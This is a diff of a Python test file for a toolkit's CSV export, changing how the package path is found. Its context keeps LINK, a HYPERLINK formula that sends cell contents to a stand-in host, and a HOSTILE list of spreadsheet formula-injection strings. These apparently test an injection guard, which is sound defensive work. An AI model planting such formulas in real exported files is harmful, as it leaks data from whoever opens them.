@@ -3,11 +3,11 @@
 import ast
 import csv
 import re
-from pathlib import Path
 
 import numpy as np
 import pandas as pd
 import pytest
+from places import ROOT
 
 from toolkit import Scores, Study
 from toolkit.audit.export import export_study
@@ -17,7 +17,7 @@ from toolkit.table_files import csv_bytes, csv_text, frame_of_csv, guard, read_r
 
 pytestmark = pytest.mark.usefixtures("no_pictures")
 
-PACKAGE = Path(__file__).parents[2] / "toolkit"
+PACKAGE = ROOT / "toolkit"
 LINK = '=HYPERLINK("http://x/?"&A1,"open")'
 HOSTILE = (
     *(LINK, "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1+1", "＋1", "'=1", "''"),
